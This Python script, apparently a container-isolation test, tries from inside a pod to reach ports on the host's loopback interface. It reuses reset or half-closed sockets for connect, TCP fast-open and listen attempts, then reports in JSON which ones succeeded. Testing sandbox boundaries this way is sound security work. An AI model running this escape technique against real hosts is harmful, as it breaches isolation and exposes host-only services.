"""Attempts to reach the host's own addresses by sockets that are the host's. Read as text, and run in a pod.

python3 -c TEXT HOST PORT VICTIM

HOST has a responder at PORT, and VICTIM is a port of the host's loopback interface. Says, as JSON, what succeeded.
"""

import contextlib
import json
import socket
import struct
import sys
import time
from collections.abc import Callable

HOST, PORT, VICTIM = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
MSG_FASTOPEN = 0x20000000
SECRET = ("127.0.0.1", VICTIM)
succeeded: list[str] = []


def listen_on_the_host(sock: socket.socket) -> None:
    sock.bind(("", 0))
    sock.listen()


ATTEMPTS: dict[str, Callable[[socket.socket], object]] = {
    "connect": lambda sock: sock.connect(SECRET),
    "fast open": lambda sock: sock.sendto(b"x", MSG_FASTOPEN, SECRET),
    "listen": listen_on_the_host,
}


def attempt(name: str, *, blocking: bool, reset: bool) -> None:
    with socket.socket() as sock:
        sock.settimeout(5)
        sock.connect((HOST, PORT))
        sock.setblocking(blocking)
        sock.sendall(b"reset\n" if reset else b"echo\n")
        if reset:
            time.sleep(0.3)
        else:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            sock.shutdown(socket.SHUT_RDWR)
        for _ in range(3):
            with contextlib.suppress(OSError):
                sock.recv(100)
        for _ in range(3):
            with contextlib.suppress(OSError):
                ATTEMPTS[name](sock)
                succeeded.append(f"{name} {blocking=} {reset=}")


for name in ATTEMPTS:
    for blocking in (True, False):
        for reset in (True, False):
            attempt(name, blocking=blocking, reset=reset)
sys.stdout.write(json.dumps(succeeded))
